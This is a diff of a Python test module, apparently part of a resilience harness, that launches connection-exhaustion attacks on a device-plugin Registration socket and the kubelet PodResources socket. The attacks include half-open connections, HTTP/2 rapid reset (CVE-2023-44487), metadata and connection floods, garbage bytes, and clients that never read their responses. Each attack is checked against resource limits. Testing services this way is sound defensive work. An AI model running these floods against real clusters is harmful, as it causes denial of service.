@@ -1,10 +1,15 @@
-"""Connections: half open, torn, without number, with too much on them."""
+"""Attack the connections of gRPC: half-open, reset, too many, or with too much on them.
+
+The last three attacks are on PodResources: clients that send requests and do not read. Only there
+can a response be large without a hostile plugin.
+"""
 
 from __future__ import annotations
 
 import contextlib
 import time
 from concurrent.futures import ThreadPoolExecutor
+from functools import partial
 from pathlib import Path
 
 import grpc
@@ -13,7 +18,7 @@ from protos import deviceplugin_v1beta1 as dp
 from protos import deviceplugin_v1beta1_grpc as dp_grpc
 from tools.attack import http2
 from tools.attack.beside import beside
-from tools.attack.model import Attack, Limits, Target
+from tools.attack.model import Limits, Target
 from tools.attack.plugins import channel
 
 _REGISTER = "/v1beta1.Registration/Register"
@@ -24,71 +29,50 @@ _FLOOD = 3000
 _BAD_VERSION = dp.RegisterRequest(version="none", resource_name="a.b/c").SerializeToString()
 
 
-def attacks() -> list[Attack]:
-    """On the Registration service and on PodResources alike."""
-    return [
-        beside(
-            "half-open",
-            f"{_HALF} connections to each socket that stop in the middle of their first bytes",
-            _half_open,
-            Limits(descriptors=2 * _HALF + 100),
-        ),
-        beside(
-            "rst-storm",
-            "400,000 calls that are taken back at once",
-            _rst_storm,
-            Limits(registration=3.0, kept=100.0),
-        ),
-        beside("metadata-flood", "2,000 calls with 1 MB of metadata", _metadata),
-        beside(
-            "clients-1000",
-            f"{_CLIENTS} clients that stay, with 3 calls each",
-            _clients,
-            Limits(kept=100.0, descriptors=_CLIENTS + 100),
-        ),
-        beside(
-            "connections-flood",
-            f"{_FLOOD} connections to each socket that greet, say nothing more and come again",
-            _flood,
-            Limits(memory=250.0, kept=250.0, descriptors=2 * _FLOOD + 100),
-        ),
-        beside("garbage", "400 connections of no HTTP/2", _garbage, Limits(descriptors=30)),
-    ]
-
-
 def _sockets(target: Target) -> tuple[tuple[Path, str], ...]:
     return (target.registration, _REGISTER), (target.pod_resources, _LIST)
 
 
+@beside(
+    "half-open",
+    f"{_HALF} connections to each socket that stop in the middle of their first bytes",
+    Limits(descriptors=2 * _HALF + 100),
+)
 def _half_open(target: Target) -> None:
     with contextlib.ExitStack() as stack:
         for path, _ in _sockets(target):
             for number in range(_HALF):
+                # A different length each, because a reader can block at any byte.
                 first = (http2.PREFACE + http2.settings())[: 1 + number % 30]
                 stack.enter_context(http2.connect(path, first))
         time.sleep(5)
 
 
+@beside(
+    "rst-storm", "400,000 calls that are cancelled at once", Limits(registration=3.0, kept=100.0)
+)
 def _rst_storm(target: Target) -> None:
+    # HTTP/2 rapid reset (CVE-2023-44487): a call costs the client almost nothing.
     for path, method in _sockets(target):
         for _ in range(20):
             with contextlib.suppress(OSError):
-                _torn_calls(path, method)
+                _cancelled_calls(path, method)
 
 
-def _torn_calls(path: Path, method: str) -> None:
+def _cancelled_calls(path: Path, method: str) -> None:
     with http2.connect(path, http2.PREFACE + http2.settings()) as connection:
         for start in range(1, 20_000, 1000):
-            torn = (
+            calls = (
                 http2.request_headers(stream, method)
                 + http2.frame(http2.RST_STREAM, stream, http2.CANCEL)
                 for stream in range(start, start + 1000, 2)
             )
-            connection.sendall(b"".join(torn))
+            connection.sendall(b"".join(calls))
 
 
+@beside("metadata-flood", "2,000 calls with 1 MB of metadata")
 def _metadata(target: Target) -> None:
-    """On one connection after the other, since each is closed for it."""
+    # The server closes each connection for that, so every call has a new one.
     metadata = tuple((f"key-{number}", "x" * 1000) for number in range(1000))
 
     def one(_: int) -> None:
@@ -100,29 +84,94 @@ def _metadata(target: Target) -> None:
         list(pool.map(one, range(2000)))
 
 
+@beside(
+    "clients-1000",
+    f"{_CLIENTS} clients that stay connected, with 3 calls each",
+    Limits(kept=100.0, descriptors=_CLIENTS + 100),
+)
 def _clients(target: Target) -> None:
     first = http2.PREFACE + http2.settings() + http2.call(1, _REGISTER, _BAD_VERSION)
-    with contextlib.ExitStack() as stack:
-        connections = [
-            stack.enter_context(http2.connect(target.registration, first)) for _ in range(_CLIENTS)
-        ]
+    with http2.connections(target.registration, _CLIENTS, first) as connections:
         for stream in (3, 5):
             for connection in connections:
                 connection.sendall(http2.call(stream, _REGISTER, _BAD_VERSION))
         time.sleep(5)
 
 
+@beside(
+    "connections-flood",
+    f"{_FLOOD} connections to each socket that send only the preface, five times",
+    Limits(memory=250.0, kept=250.0, descriptors=2 * _FLOOD + 100),
+)
 def _flood(target: Target) -> None:
     first = http2.PREFACE + http2.settings()
     for _ in range(5):
-        with contextlib.ExitStack() as stack:
-            for path, _method in _sockets(target):
-                for _number in range(_FLOOD):
-                    with contextlib.suppress(OSError):
-                        stack.enter_context(http2.connect(path, first))
+        with (
+            http2.connections(target.registration, _FLOOD, first, may_fail=True),
+            http2.connections(target.pod_resources, _FLOOD, first, may_fail=True),
+        ):
             time.sleep(1)
 
 
+@beside("garbage", "400 connections that do not use HTTP/2", Limits(descriptors=30))
 def _garbage(target: Target) -> None:
     for path, _ in _sockets(target):
         http2.send_garbage(path)
+
+
+_READERS, _CALLS = 60, 20
+_METHODS = ("/v1.PodResourcesLister/GetAllocatableResources", "/v1.PodResourcesLister/List")
+_DEVICES, _ID_LENGTH = 10_000, 100
+# The kubelet lets up to 64 MiB of responses wait, and computes some more at the same time.
+_UNREAD_LIMITS = Limits(memory=250.0, kept=150.0, descriptors=_READERS + 100)
+_LARGE_RESPONSES = {"devices": _DEVICES, "id_length": _ID_LENGTH}
+
+
+def _calls(first: int) -> bytes:
+    streams = range(first, first + 2 * _CALLS, 2)
+    return b"".join(http2.call(stream, _METHODS[0]) for stream in streams)
+
+
+def _unread(target: Target, window: int) -> None:
+    first = http2.PREFACE + http2.settings(window=window) + _calls(1)
+    with http2.connections(target.pod_resources, _READERS, first):
+        time.sleep(8)
+
+
+@beside(
+    "list-flood-clients",
+    f"{_READERS} clients that call as fast as they can, ignoring the rate limit",
+    _UNREAD_LIMITS,
+    **_LARGE_RESPONSES,
+)
+def _call_fast(target: Target) -> None:
+    first = http2.PREFACE + http2.settings()
+    with http2.connections(target.pod_resources, _READERS, first) as connections:
+        end = time.monotonic() + 6
+        for turn in range(10_000):
+            for connection in connections:
+                # Responses are discarded, so that the kubelet can always send the next one.
+                connection.setblocking(False)
+                with contextlib.suppress(OSError):
+                    while connection.recv(1 << 20):
+                        continue
+                connection.setblocking(True)
+                connection.sendall(http2.call(2 * turn + 1, _METHODS[turn % 2]))
+            if time.monotonic() > end:
+                return
+
+
+beside(
+    "list-unread",
+    f"{_READERS} clients x {_CALLS} calls for 1.1 MB, with a flow control window of 0",
+    _UNREAD_LIMITS,
+    settings={"pod_resources_qps": None},
+    **_LARGE_RESPONSES,
+)(partial(_unread, window=0))
+beside(
+    "list-unread-socket",
+    f"{_READERS} clients x {_CALLS} calls for 1.1 MB, with full sockets",
+    _UNREAD_LIMITS,
+    settings={"pod_resources_qps": None},
+    **_LARGE_RESPONSES,
+)(partial(_unread, window=(1 << 31) - 1))
